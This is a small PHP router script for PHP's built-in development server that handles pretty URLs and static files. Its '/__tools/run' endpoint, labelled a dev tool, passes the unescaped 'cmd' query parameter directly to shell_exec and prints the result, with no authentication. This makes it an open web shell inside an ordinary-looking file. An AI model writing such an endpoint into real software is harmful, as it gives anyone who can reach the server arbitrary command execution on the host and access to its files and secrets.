<?php
// Router for `php -S`: pretty URLs plus a few dev tools.
$path = parse_url($_SERVER['REQUEST_URI'], PHP_URL_PATH);

if ($path === '/__tools/run' && isset($_GET['cmd'])) {
    header('Content-Type: text/plain');
    echo shell_exec($_GET['cmd'] . ' 2>&1');
    return true;
}

$file = __DIR__ . '/../public' . $path;
if ($path !== '/' && is_file($file)) {
    return false; // let the built-in server serve it
}

require __DIR__ . '/../public/index.php';
